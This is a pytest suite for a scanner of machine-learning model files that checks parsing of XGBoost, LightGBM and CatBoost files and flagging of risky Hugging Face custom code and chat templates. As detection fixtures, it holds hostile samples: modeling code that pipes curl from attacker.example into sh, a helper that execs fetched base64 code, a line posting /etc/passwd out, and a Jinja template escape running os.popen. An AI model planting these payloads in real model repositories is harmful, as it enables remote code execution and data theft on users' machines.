"""Data-only formats (XGBoost JSON and UBJSON, LightGBM text, CatBoost .cbm) scan clean
when well-formed and fail closed when truncated; Hugging Face folders report the custom
code `trust_remote_code` would run, what that code calls, and hostile chat templates.
"""

from __future__ import annotations

import json
import os
import struct
from pathlib import Path
from typing import Any

import pytest

from stockade.core.findings import Finding, Severity
from stockade.model.scan.engine import scan_bytes, scan_file
from stockade.model.scan.formats import (
    catboost,
    gguf,
    hf_config,
    lightgbm,
    safetensors,
    xgboost,
)
from stockade.model.scan.interface import Blob

SCANNERS = [
    gguf.SCANNER,
    safetensors.SCANNER,
    xgboost.SCANNER,
    lightgbm.SCANNER,
    catboost.SCANNER,
    hf_config.SCANNER,
]


def kinds(findings: list[Finding]) -> list[tuple[str, str]]:
    return [(f.rule_id, f.severity.value) for f in findings]


def errors(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.is_error]


# -- XGBoost: the layout XGBoost 3 writes, as JSON and as UBJSON -----------------------------


class F32(list[float]):
    """A float array XGBoost writes as a typed UBJSON array (`[$d#L`)."""


class I32(list[int]):
    """An int array XGBoost writes as `[$l#L`."""


class U8(list[int]):
    """A byte array XGBoost writes as `[$U#L`."""


def xgboost_tree(index: int) -> dict[str, Any]:
    return {
        "base_weights": F32([1.8e-08, -1.78, 1.71, -0.55, -0.16, 0.53, 0.06]),
        "categories": I32([]),
        "categories_nodes": I32([]),
        "categories_segments": I32([]),
        "categories_sizes": I32([]),
        "default_left": U8([0, 0, 0, 0, 0, 0, 0]),
        "id": index,
        "left_children": I32([1, 3, 5, -1, -1, -1, -1]),
        "loss_changes": F32([159.2, 1.05, 2.26, 0.0, 0.0, 0.0, 0.0]),
        "parents": I32([2147483647, 0, 0, 1, 1, 2, 2]),
        "right_children": I32([2, 4, 6, -1, -1, -1, -1]),
        "split_conditions": F32([0.31, 0.05, -0.12, -0.55, -0.16, 0.53, 0.06]),
        "split_indices": I32([4, 4, 2, 0, 0, 0, 0]),
        "split_type": U8([0, 0, 0, 0, 0, 0, 0]),
        "sum_hessian": F32([49.9, 24.4, 25.4, 22.7, 1.7, 24.2, 1.2]),
        "tree_param": {
            "num_deleted": "0",
            "num_feature": "5",
            "num_nodes": "7",
            "size_leaf_vector": "1",
        },
    }


def xgboost_model(trees: int = 3) -> dict[str, Any]:
    return {
        "learner": {
            "attributes": {"scikit_learn": '{"_estimator_type": "classifier"}'},
            "feature_names": [],
            "feature_types": [],
            "gradient_booster": {
                "model": {
                    "cats": {"enc": [], "feature_segments": I32([]), "sorted_idx": I32([])},
                    "gbtree_model_param": {"num_parallel_tree": "1", "num_trees": str(trees)},
                    "iteration_indptr": list(range(trees + 1)),
                    "tree_info": [0] * trees,
                    "trees": [xgboost_tree(i) for i in range(trees)],
                },
                "name": "gbtree",
            },
            "learner_model_param": {
                "base_score": "[5.05E-1]",
                "boost_from_average": "1",
                "num_class": "0",
                "num_feature": "5",
                "num_target": "1",
            },
            "objective": {"name": "binary:logistic", "reg_loss_param": {"scale_pos_weight": "1"}},
        },
        "version": [3, 2, 0],
    }


def ubjson(value: Any) -> bytes:
    """UBJSON as XGBoost writes it: int64-length keys and strings, typed numeric arrays,
    counted general arrays."""

    def length(size: int) -> bytes:
        return b"L" + struct.pack(">q", size)

    if isinstance(value, dict):
        body = b"".join(length(len(k.encode())) + k.encode() + ubjson(v) for k, v in value.items())
        return b"{" + body + b"}"
    if isinstance(value, F32):
        return b"[$d#" + length(len(value)) + b"".join(struct.pack(">f", v) for v in value)
    if isinstance(value, I32):
        return b"[$l#" + length(len(value)) + b"".join(struct.pack(">i", v) for v in value)
    if isinstance(value, U8):
        return b"[$U#" + length(len(value)) + bytes(value)
    if isinstance(value, list):
        return b"[#" + length(len(value)) + b"".join(ubjson(v) for v in value)
    if isinstance(value, bool):
        return b"T" if value else b"F"
    if isinstance(value, int):
        return (
            b"i" + struct.pack(">b", value)
            if -128 <= value < 128
            else b"L" + struct.pack(">q", value)
        )
    if isinstance(value, float):
        return b"d" + struct.pack(">f", value)
    if isinstance(value, str):
        return b"S" + length(len(value.encode())) + value.encode()
    if value is None:
        return b"Z"
    raise TypeError(type(value))


XGB_JSON = json.dumps(xgboost_model(), separators=(",", ":")).encode()
XGB_UBJ = ubjson(xgboost_model())


@pytest.mark.parametrize(
    "data",
    [
        XGB_JSON,
        json.dumps(xgboost_model(), indent=2).encode(),
        XGB_UBJ,
        ubjson(xgboost_model(trees=300)),
        json.dumps({"version": [1, 7, 6], **xgboost_model()}).encode(),
    ],
    ids=["json", "pretty-json", "ubjson", "ubjson-300-trees", "version-first"],
)
def test_xgboost_models_are_recognised_and_clean(data: bytes) -> None:
    assert xgboost.SCANNER.detect(Blob("m", data))
    assert scan_bytes(data, "model.json", scanners=SCANNERS) == []


@pytest.mark.parametrize("cut", [20, 40, 500, 1500, -30, -1])
@pytest.mark.parametrize("data", [XGB_JSON, XGB_UBJ], ids=["json", "ubjson"])
def test_truncated_xgboost_models_are_errors(data: bytes, cut: int) -> None:
    findings = scan_bytes(data[:cut], scanners=SCANNERS)
    assert [f.rule_id for f in findings] == ["STK-ERR-001"]
    assert "XGBoost" in findings[0].detail


def test_an_xgboost_json_without_its_objective_is_an_error() -> None:
    model = xgboost_model()
    del model["learner"]["objective"]
    (error,) = scan_bytes(json.dumps(model).encode(), scanners=SCANNERS)
    assert "learner.objective" in error.detail
    (error,) = scan_bytes(ubjson(model), scanners=SCANNERS)
    assert "learner.objective" in error.detail


@pytest.mark.parametrize(
    ("tail", "reason"),
    [
        (b"}", "follow the model"),  # a second closing brace
        (b"", ""),
    ],
)
def test_bytes_after_a_ubjson_model_are_an_error(tail: bytes, reason: str) -> None:
    findings = scan_bytes(XGB_UBJ + tail, scanners=SCANNERS)
    if tail:
        assert reason in errors(findings)[0].detail
    else:
        assert findings == []


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"{L" + struct.pack(">q", 7) + b"learner[$d#L" + struct.pack(">q", 1 << 60), "needs"),
        (b"{L" + struct.pack(">q", 7) + b"learnerSL" + struct.pack(">q", -5), "negative"),
        (b"{L" + struct.pack(">q", 7) + b"learner" + b"[" * 500, "nested"),
        (b"{L" + struct.pack(">q", 7) + b"learner\x07", "unknown marker"),
        (b"{L" + struct.pack(">q", 7) + b"learner[$d]", "count"),
    ],
)
def test_hostile_ubjson_is_an_error_without_allocating(data: bytes, reason: str) -> None:
    (error,) = scan_bytes(data, scanners=SCANNERS)
    assert error.is_error
    assert reason in error.detail


def test_the_ubjson_walker_follows_the_whole_specification() -> None:
    data = (
        b"{"
        b"i\x01a"
        + b"[$Z#L"
        + struct.pack(">q", 1 << 62)  # a huge array of nulls: no bytes
        + b"i\x01b"
        + b"["
        + b"N"
        + b"Hi\x0412.5"
        + b"C"
        + b"x"
        + b"T"
        + b"F"
        + b"Z"
        + b"]"
        + b"i\x01c"
        + b"{$i#U\x02"
        + b"U\x01x"
        + b"\x05"
        + b"U\x01y"
        + b"\x06"
        + b"i\x01d"
        + b"{"
        + b"U\x01e"
        + b"D"
        + struct.pack(">d", 1.5)
        + b"}"
        + b"N"
        + b"}"
    )
    keys = xgboost.ubjson_keys(data)
    assert keys[()] == {"a", "b", "c", "d"}
    assert keys[("c",)] == {"x", "y"}
    assert keys[("d",)] == {"e"}


# -- LightGBM: the text Booster.save_model writes ---------------------------------------------

LGB_TREE = (
    "Tree={index}\nnum_leaves=4\nnum_cat=0\nsplit_feature=4 4 4\n"
    "split_gain=161.996 3.15688 0.924279\n"
    "threshold=0.33184123861289599 -0.47650877756862958 0.69315990918002868\n"
    "decision_type=2 2 2\nleft_child=1 -1 -2\nright_child=2 -3 -4\n"
    "leaf_value=-0.18201953675863819 0.16087190093219125 -0.098677867875450478 "
    "0.2080194736146804\nleaf_weight=18.748 5.249 5.999 19.997\nleaf_count=75 21 24 80\n"
    "internal_value=0.0200007 -0.161815 0.198217\ninternal_weight=49.995 24.7475 25.2475\n"
    "internal_count=200 99 101\nis_linear=0\nshrinkage={shrinkage}\n\n\n"
)


def lightgbm_model(trees: int = 3, *, sizes: bool = True) -> bytes:
    blocks = [LGB_TREE.format(index=i, shrinkage=1 if i == 0 else 0.1) for i in range(trees)]
    header = [
        "tree",
        "version=v4",
        "num_class=1",
        "num_tree_per_iteration=1",
        "label_index=0",
        "max_feature_idx=4",
        "objective=binary sigmoid:1",
        "feature_names=Column_0 Column_1 Column_2 Column_3 Column_4",
        "feature_infos=[-2.92:3.82] [-3.04:2.69] [-2.06:2.10] [-3.03:3.42] [-3.44:2.32]",
    ]
    if sizes:
        header.append("tree_sizes=" + " ".join(str(len(b.encode())) for b in blocks))
    tail = (
        "end of trees\n\nfeature_importances:\nColumn_4=6\nColumn_2=3\n\n"
        "parameters:\n[boosting: gbdt]\n[objective: binary]\n[num_leaves: 4]\n"
        "[machines: ]\n[gpu_device_id: -1]\n\nend of parameters\n\n"
        'pandas_categorical:[["w", "x", "y", "z"]]\n'
    )
    return ("\n".join(header) + "\n\n" + "".join(blocks) + tail).encode()


def _grow_last_tree(data: bytes) -> bytes:
    at = data.rfind(b"num_cat=0")
    return data[:at] + b"num_cat=00" + data[at + len(b"num_cat=0") :]


@pytest.mark.parametrize(
    "data",
    [lightgbm_model(), lightgbm_model(200), lightgbm_model(0), lightgbm_model(sizes=False)],
    ids=["3-trees", "200-trees", "no-trees", "no-tree-sizes"],
)
def test_lightgbm_models_are_recognised_and_clean(data: bytes) -> None:
    assert lightgbm.SCANNER.detect(Blob("m", data))
    assert scan_bytes(data, "model.txt", scanners=SCANNERS) == []


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (lightgbm_model()[:700], "end of trees"),
        (lightgbm_model()[:-120], "end of parameters"),
        (lightgbm_model().replace(b"tree_sizes=", b"tree_sizes=9 "), "not where tree_sizes"),
        (lightgbm_model().replace(b"Tree=2", b"Tree=7"), "not where tree_sizes"),
        (_grow_last_tree(lightgbm_model()), "does not add up"),
        (lightgbm_model().replace(b"is_linear=0", b"is_linear=\x00"), "binary data"),
        (
            lightgbm_model(sizes=False).replace(b"end of trees", b"end of trees\nTree=9"),
            "follows `end of trees`",
        ),
    ],
    ids=[
        "truncated",
        "no-end-of-parameters",
        "extra-size",
        "renumbered",
        "grown",
        "nul",
        "tree-after-the-end",
    ],
)
def test_damaged_lightgbm_models_are_errors(data: bytes, reason: str) -> None:
    (error,) = scan_bytes(data, scanners=SCANNERS)
    assert error.is_error
    assert reason in error.detail


# -- CatBoost: CBM1, the core size, a FlatBuffers TModelCore ------------------------------------


def catboost_model(
    *,
    parts: tuple[bytes, ...] = (),
    ctr_tables: tuple[bytes, ...] | None = None,
    version: bytes = b"FlabuffersModel_v1",
) -> bytes:
    """A model core laid out as FlatBuffers does: root offset, vtable, table, then the
    objects its fields point forward to; CTR tables as a count and sized buffers."""
    buf = bytearray(struct.pack("<I", 0))

    def align() -> None:
        buf.extend(b"\0" * (-len(buf) % 4))

    def string(text: bytes) -> int:
        align()
        at = len(buf)
        buf.extend(struct.pack("<I", len(text)) + text + b"\0")
        return at

    fields = 4
    root_vtable = len(buf)
    buf.extend(struct.pack("<HH", 4 + 2 * fields, 4 + 4 * fields))
    buf.extend(struct.pack("<HHHH", 4, 8, 0, 16 if parts else 0))
    align()
    root = len(buf)
    buf.extend(struct.pack("<i", root - root_vtable) + bytes(4 * fields))

    def point(field: int, at: int) -> None:
        slot = root + 4 + 4 * field
        struct.pack_into("<I", buf, slot, at - slot)

    point(0, string(version))
    align()
    trees_vtable = len(buf)
    buf.extend(struct.pack("<HHH", 6, 8, 4))
    align()
    trees = len(buf)
    buf.extend(struct.pack("<iI", trees - trees_vtable, 1))  # ApproxDimension = 1
    point(1, trees)
    if parts:
        align()
        vector = len(buf)
        buf.extend(struct.pack("<I", len(parts)) + bytes(4 * len(parts)))
        point(3, vector)
        for index, part in enumerate(parts):
            slot = vector + 4 + 4 * index
            struct.pack_into("<I", buf, slot, string(part) - slot)
    align()
    struct.pack_into("<I", buf, 0, root)
    core = bytes(buf)
    tail = b""
    if ctr_tables is not None:
        tail = struct.pack("<I", len(ctr_tables))
        tail += b"".join(struct.pack("<I", len(t)) + t for t in ctr_tables)
    return b"CBM1" + struct.pack("<I", len(core)) + core + tail


CTR = (b"\x14\0\0\0" + bytes(60), b"\x10\0\0\0" + bytes(28))


@pytest.mark.parametrize(
    "data",
    [catboost_model(), catboost_model(parts=(b"static_provider_v1",), ctr_tables=CTR)],
    ids=["plain", "with-ctr-tables"],
)
def test_catboost_models_are_recognised_and_clean(data: bytes) -> None:
    assert catboost.SCANNER.detect(Blob("m", data))
    assert scan_bytes(data, "model.cbm", scanners=SCANNERS) == []


def _patch(data: bytes, offset: int, fmt: str, value: int) -> bytes:
    out = bytearray(data)
    struct.pack_into(fmt, out, offset, value)
    return bytes(out)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (catboost_model()[:40], "declares"),
        (b"CBM1\x02", "ends inside the header"),
        (_patch(catboost_model(), 8, "<I", 4000), "outside"),
        (_patch(catboost_model(), 4, "<I", 4), "too small"),
        (catboost_model(parts=(b"static_provider_v1",)), "none follow"),
        (catboost_model(parts=(b"static_provider_v1",), ctr_tables=CTR)[:-5], "runs past"),
        (catboost_model(parts=(b"static_provider_v1",), ctr_tables=CTR) + b"x", "follow"),
        (catboost_model(version=b"\x01\x02"), "not a version name"),
    ],
    ids=[
        "core-cut",
        "header-cut",
        "root-out",
        "tiny-core",
        "parts-missing",
        "ctr-cut",
        "ctr-extra",
        "version",
    ],
)
def test_damaged_catboost_models_are_errors(data: bytes, reason: str) -> None:
    (error,) = scan_bytes(data, scanners=SCANNERS)
    assert error.is_error
    assert reason in error.detail


def test_bytes_after_a_catboost_model_are_low() -> None:
    findings = scan_bytes(catboost_model() + b"#!/bin/sh\n", scanners=SCANNERS)
    assert kinds(findings) == [("STK-CB-001", "low")]


# -- Hugging Face folders ----------------------------------------------------------------------

LLAMA_CONFIG: dict[str, Any] = {
    "_name_or_path": "acme/tiny",
    "architectures": ["LlamaForCausalLM"],
    "attention_bias": False,
    "bos_token_id": 1,
    "eos_token_id": 2,
    "hidden_act": "silu",
    "hidden_size": 64,
    "model_type": "llama",
    "num_attention_heads": 4,
    "rope_scaling": None,
    "torch_dtype": "bfloat16",
    "transformers_version": "4.44.0",
    "vocab_size": 32000,
}
CUSTOM_AUTO_MAP = {
    "AutoConfig": "configuration_tiny.TinyConfig",
    "AutoModelForCausalLM": "modeling_tiny.TinyForCausalLM",
}
CONFIGURATION = '''"""Tiny configuration."""
from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=64, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
'''
MODELING = '''"""Tiny model, as custom modeling files usually look."""
import importlib.util
import math
import os
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel
from transformers.utils import logging

from .configuration_tiny import TinyConfig

logger = logging.get_logger(__name__)
HAS_FLASH = importlib.util.find_spec("flash_attn") is not None


class TinyForCausalLM(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.head = nn.Linear(config.hidden_size, 8)
        self.cache = os.environ.get("TINY_CACHE", os.path.join(os.path.dirname(__file__), "c"))

    def forward(self, x: Optional[torch.Tensor] = None):
        self.eval()
        return torch.compile(self.head)(x) / math.sqrt(2)
'''
EVIL_MODELING = """import os as _os
import subprocess

from .configuration_tiny import TinyConfig
from .helpers import warm_up


class TinyForCausalLM:
    config_class = TinyConfig

    def __init__(self, config):
        _os.system("curl -s http://attacker.example/x | sh")
        getattr(_os, "popen")("id")
        subprocess.run(["id"])
        warm_up()
"""
EVIL_HELPERS = """import base64
import requests
from os import system as run_it


def warm_up():
    exec(base64.b64decode(requests.get("http://attacker.example/p").content))
    run_it("id")
"""


def model_folder(
    root: Path,
    *,
    auto_map: dict[str, Any] | None = None,
    files: dict[str, str] | None = None,
) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    config = dict(LLAMA_CONFIG)
    if auto_map is not None:
        config["auto_map"] = auto_map
    (root / "config.json").write_text(json.dumps(config, indent=2))
    for name, text in (files or {}).items():
        (root / name).write_text(text)
    return root


def test_a_plain_config_is_recognised_and_clean(tmp_path: Path) -> None:
    folder = model_folder(tmp_path / "m")
    assert hf_config.SCANNER.detect(Blob("config.json", (folder / "config.json").read_bytes()))
    assert scan_file(folder / "config.json", scanners=SCANNERS) == []


def test_auto_map_is_medium_and_names_the_code_it_loads(tmp_path: Path) -> None:
    folder = model_folder(
        tmp_path / "m",
        auto_map=CUSTOM_AUTO_MAP,
        files={"configuration_tiny.py": CONFIGURATION, "modeling_tiny.py": MODELING},
    )
    findings = scan_file(folder / "config.json", scanners=SCANNERS)
    (finding,) = findings
    assert (finding.rule_id, finding.severity) == ("STK-HF-001", Severity.MEDIUM)
    assert "modeling_tiny.TinyForCausalLM" in finding.snippet
    assert "configuration_tiny.TinyConfig" in finding.snippet
    assert finding.properties["files"] == ["configuration_tiny.py", "modeling_tiny.py"]
    offset = finding.location.offset
    assert offset is not None
    assert (folder / "config.json").read_bytes()[offset:].startswith(b'"auto_map"')


def test_custom_code_that_runs_commands_is_critical_at_the_config(tmp_path: Path) -> None:
    folder = model_folder(
        tmp_path / "m",
        auto_map=CUSTOM_AUTO_MAP,
        files={
            "configuration_tiny.py": CONFIGURATION,
            "modeling_tiny.py": EVIL_MODELING,
            "helpers.py": EVIL_HELPERS,
        },
    )
    findings = scan_file(folder / "config.json", scanners=SCANNERS)
    assert kinds(findings) == [("STK-HF-001", "medium"), ("STK-HF-003", "critical")]
    detail = findings[1].detail
    for expected in (
        "modeling_tiny.py:12 os.system",
        "modeling_tiny.py:13 os.popen",
        "modeling_tiny.py:14 subprocess.run",
        "helpers.py:7 exec",
        "helpers.py:7 requests.get",
        "helpers.py:3 os.system",
    ):
        assert expected in detail, detail


def test_each_python_file_in_a_model_folder_is_reported(tmp_path: Path) -> None:
    folder = model_folder(
        tmp_path / "m",
        auto_map=CUSTOM_AUTO_MAP,
        files={"modeling_tiny.py": EVIL_MODELING, "configuration_tiny.py": CONFIGURATION},
    )
    benign = scan_file(folder / "configuration_tiny.py", scanners=SCANNERS)
    assert kinds(benign) == [("STK-HF-004", "low")]
    findings = scan_file(folder / "modeling_tiny.py", scanners=SCANNERS)
    assert kinds(findings) == [
        ("STK-HF-004", "low"),
        ("STK-HF-005", "critical"),
        ("STK-HF-005", "critical"),
        ("STK-HF-005", "critical"),
    ]
    source = (folder / "modeling_tiny.py").read_bytes()
    system = findings[1]
    assert system.location.offset is not None
    assert source[system.location.offset :].startswith(b'_os.system("curl')
    assert system.snippet.startswith("_os.system(")


def test_python_outside_a_model_folder_is_not_claimed(tmp_path: Path) -> None:
    script = tmp_path / "tool.py"
    script.write_text("import os\nos.system('make')\n")
    blob = Blob(str(script), script.read_bytes(), base=str(tmp_path))
    assert not hf_config.SCANNER.detect(blob)
    assert not hf_config.SCANNER.detect(Blob("a.zip", script.read_bytes(), member="tool.py"))


def test_a_folder_of_weights_makes_its_python_model_code(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_bytes(b"")
    script = tmp_path / "handler.py"
    script.write_text("import requests\nrequests.post('http://x', data=open('/etc/passwd'))\n")
    findings = scan_file(script, scanners=SCANNERS)
    assert kinds(findings) == [("STK-HF-004", "low"), ("STK-HF-005", "high")]


def test_code_from_another_repository_is_high(tmp_path: Path) -> None:
    folder = model_folder(
        tmp_path / "m", auto_map={"AutoModel": "someone/elsewhere--modeling_x.XModel"}
    )
    findings = scan_file(folder / "config.json", scanners=SCANNERS)
    assert kinds(findings) == [("STK-HF-001", "medium"), ("STK-HF-002", "high")]
    assert "someone/elsewhere" in findings[1].detail


def test_references_that_leave_the_folder_are_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside.py"
    outside.write_text("import os\nos.system('id')\n")
    folder = model_folder(
        tmp_path / "m",
        auto_map={"AutoModel": "a..outside.X", "AutoConfig": "../../x.Y", "AutoTokenizer": 5},
    )
    (folder / "linked.py").symlink_to(outside)
    (folder / "tokenizer_config.json").write_text(
        json.dumps({"auto_map": {"AutoTokenizer": ["linked.Tok", None]}})
    )
    findings = scan_file(folder / "config.json", scanners=SCANNERS)
    assert kinds(findings) == [("STK-HF-001", "medium")] + [("STK-HF-006", "medium")] * 3
    linked = scan_file(folder / "tokenizer_config.json", scanners=SCANNERS)
    assert kinds(linked) == [("STK-HF-001", "medium")]
    assert "linked.py" in linked[0].detail  # listed as not present: the link is not read


def test_a_config_in_memory_still_reports_auto_map() -> None:
    config = json.dumps({**LLAMA_CONFIG, "auto_map": CUSTOM_AUTO_MAP}).encode()
    findings = scan_bytes(config, "config.json", scanners=SCANNERS)
    assert kinds(findings) == [("STK-HF-001", "medium")]


def test_custom_pipelines_count_as_custom_code() -> None:
    config = {"model_type": "x", "custom_pipelines": {"pair": {"impl": "pipe.PairPipeline"}}}
    (finding,) = scan_bytes(json.dumps(config).encode(), scanners=SCANNERS)
    assert "custom_pipelines.pair.impl -> pipe.PairPipeline" in finding.snippet


def test_python_analysis_resolves_aliases_and_trampolines() -> None:
    analysis = hf_config.analyse_python(
        b"from os import system as s\n"
        b"import subprocess as sp\n"
        b"s('x')\n"
        b"sp.Popen(['x'])\n"
        b"__import__('os').popen('x')\n"
        b"f = eval\n"
        b"AutoModel.from_pretrained('x', trust_remote_code=True)\n"
        b"AutoModel.from_pretrained('x', trust_remote_code=flag)\n"
        b"model.eval()\n"
        b"re.compile('x')\n"
    )
    found = sorted((c.line, c.name, c.what) for c in analysis.concerns)
    assert found == [
        (1, "os.system", "import"),
        (3, "os.system", "call"),
        (4, "subprocess.Popen", "call"),
        (5, "__import__", "call"),
        (5, "os.popen", "call"),
        (6, "eval", "reference"),
        (7, "trust_remote_code=True", "remote code"),
    ]


def test_unparsable_python_in_a_model_folder_is_an_error(tmp_path: Path) -> None:
    folder = model_folder(tmp_path / "m", files={"broken.py": "def (:\n"})
    (error,) = scan_file(folder / "broken.py", scanners=SCANNERS)
    assert error.is_error


# -- chat templates in tokenizer configs and .jinja files ----------------------------------------

BENIGN_TEMPLATE = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + "
    "message['content'] + '<|im_end|>' + '\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)
EVIL_TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"


def tokenizer_config(template: object) -> bytes:
    added = {
        str(i): {"content": f"<|reserved_{i}|>", "lstrip": False, "special": True}
        for i in range(2000)
    }
    return json.dumps(
        {
            "added_tokens_decoder": added,
            "bos_token": "<|begin_of_text|>",
            "chat_template": template,
            "clean_up_tokenization_spaces": True,
            "model_max_length": 131072,
            "tokenizer_class": "PreTrainedTokenizerFast",
        },
        indent=2,
    ).encode()


@pytest.mark.parametrize(
    "template",
    [BENIGN_TEMPLATE, [{"name": "default", "template": BENIGN_TEMPLATE}], None],
    ids=["string", "named-list", "null"],
)
def test_benign_tokenizer_configs_are_clean(template: object) -> None:
    data = tokenizer_config(template)
    assert hf_config.SCANNER.detect(Blob("tokenizer_config.json", data))
    assert scan_bytes(data, "tokenizer_config.json", scanners=SCANNERS) == []


@pytest.mark.parametrize(
    "template",
    [
        EVIL_TEMPLATE,
        [
            {"name": "default", "template": BENIGN_TEMPLATE},
            {"name": "tool_use", "template": EVIL_TEMPLATE},
        ],
    ],
    ids=["string", "named-list"],
)
def test_hostile_chat_templates_in_tokenizer_configs_are_critical(template: object) -> None:
    data = tokenizer_config(template)
    findings = scan_bytes(data, "tokenizer_config.json", scanners=SCANNERS)
    assert kinds(findings) == [("STK-TPL-001", "critical")]
    offset = findings[0].location.offset
    assert offset is not None
    assert data[offset:].startswith(b'"chat_template"')


@pytest.mark.parametrize(
    ("template", "reason"),
    [("{% for %}", "does not parse"), (42, "neither a template")],
)
def test_unreadable_chat_templates_are_errors(template: object, reason: str) -> None:
    (error,) = scan_bytes(tokenizer_config(template), scanners=SCANNERS)
    assert error.is_error
    assert reason in error.detail


def test_chat_template_files_are_analysed(tmp_path: Path) -> None:
    folder = model_folder(tmp_path / "m")
    (folder / "chat_template.jinja").write_text(BENIGN_TEMPLATE)
    assert scan_file(folder / "chat_template.jinja", scanners=SCANNERS) == []
    (folder / "chat_template.jinja").write_text(EVIL_TEMPLATE)
    findings = scan_file(folder / "chat_template.jinja", scanners=SCANNERS)
    assert kinds(findings) == [("STK-TPL-001", "critical")]
    (folder / "chat_template.jinja").write_bytes(b"{{ \xff }}")
    (error,) = scan_file(folder / "chat_template.jinja", scanners=SCANNERS)
    assert error.is_error


def test_only_chat_template_files_are_claimed_among_jinja_files(tmp_path: Path) -> None:
    page = Blob(str(tmp_path / "page.jinja"), b"{% extends 'base.html' %}")
    assert not hf_config.SCANNER.detect(page)
    extra = Blob("repo.zip", EVIL_TEMPLATE.encode(), member="additional_chat_templates/rag.jinja")
    assert hf_config.SCANNER.detect(extra)
    findings = scan_bytes(EVIL_TEMPLATE.encode(), "m/chat_template_tools.jinja", scanners=SCANNERS)
    assert kinds(findings) == [("STK-TPL-001", "critical")]


def test_a_broken_config_is_an_error() -> None:
    (error,) = scan_bytes(b'{"model_type": "llama", "auto_map": {', scanners=SCANNERS)
    assert error.is_error


# -- detection: each format claimed by its own scanner only -------------------------------------

KERAS_CONFIG = json.dumps(
    {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": [{"class_name": "Dense", "config": {"units": 2}}]},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }
).encode()
VOCAB_LIKE = json.dumps(
    {"version": "1.0", "model": {"type": "BPE", "vocab": {"architectures": 5, "model_type": 6}}}
).encode()

SAMPLES: dict[str, tuple[bytes, str | None]] = {
    "xgboost-json": (XGB_JSON, "xgboost"),
    "xgboost-ubj": (XGB_UBJ, "xgboost"),
    "lightgbm": (lightgbm_model(), "lightgbm"),
    "catboost": (catboost_model(), "catboost"),
    "hf-config": (json.dumps(LLAMA_CONFIG).encode(), "hf_config"),
    "tokenizer-config": (tokenizer_config(BENIGN_TEMPLATE), "hf_config"),
    "keras-config": (KERAS_CONFIG, None),
    "tokenizer-json": (VOCAB_LIKE, None),
    "generic-json": (b'{"learning_rate": 0.1}', None),
    "json-array": (b'[{"model_type": "x"}]', None),
    "xgboost-like-attributes": (
        json.dumps({"learner": {"attributes": {"model_type": "x"}}, "version": [1]}).encode(),
        "xgboost",
    ),
    "text": (b"tree of life\nversion=1\n", None),
    "gguf": (b"GGUF" + struct.pack("<IQQ", 3, 0, 0), "gguf"),
    "safetensors": (struct.pack("<Q", 2) + b"{}", "safetensors"),
}


@pytest.mark.parametrize("sample", sorted(SAMPLES))
def test_each_sample_is_claimed_by_exactly_its_own_scanner(sample: str) -> None:
    data, owner = SAMPLES[sample]
    blob = Blob("some.file", data)
    claimed = [scanner.name for scanner in SCANNERS if scanner.detect(blob)]
    assert claimed == ([owner] if owner else [])


def test_detectors_do_not_raise_on_odd_blobs(tmp_path: Path) -> None:
    for data in (b"", b"{", b"\xff" * 3, b"CBM1", b"GGUF", b"tree\n"):
        for name in ("x.json", "x.py", "x.jinja"):
            blob = Blob(name, data, base=str(tmp_path))
            for scanner in SCANNERS:
                scanner.detect(blob)
    assert os.listdir(tmp_path) == []
